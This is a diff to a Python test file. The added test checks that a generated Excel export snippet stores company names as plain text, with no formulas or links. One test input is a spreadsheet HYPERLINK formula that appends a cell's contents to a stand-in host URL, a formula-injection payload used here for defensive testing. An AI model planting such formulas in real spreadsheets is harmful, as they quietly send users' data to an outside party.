@@ -3,9 +3,13 @@
 from __future__ import annotations
 
 import shutil
+import zipfile
+from contextlib import chdir
 from datetime import date, datetime
 from pathlib import Path
 
+import fastexcel
+import pandas
 import polars as pl
 import pytest
 
@@ -186,3 +190,22 @@ def test_snippets_are_python_that_compiles(tmp_path: Path) -> None:
         assert "330110" in each.text
         if each.tool != "Power BI":
             compile(each.text, each.tool, "exec")
+    (excel,) = [each for each in told if each.tool == "Excel"]
+    assert "pip install xlsxwriter" in excel.words
+    _keeps_texts_as_texts(excel.text, tmp_path)
+
+
+def _keeps_texts_as_texts(snippet: str, folder: Path) -> None:
+    """What the snippet writes holds no formula and no link, whatever an enterprise calls itself."""
+    names = ['=HYPERLINK("http://x.example/?"&A2,"某公司")', "=1+1", "http://x.example/", "mailto:a@x.example", "甲"]
+
+    class Sharing:
+        load_as_pandas = staticmethod(lambda _: pandas.DataFrame({"name": names}))
+
+    with chdir(folder):
+        exec(snippet, {"delta_sharing": Sharing})
+    book = folder / "企业镜像.xlsx"
+    assert fastexcel.read_excel(book).load_sheet(0).to_polars()["name"].to_list() == names
+    with zipfile.ZipFile(book) as parts:
+        sheet = parts.read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet and b"<hyperlink" not in sheet
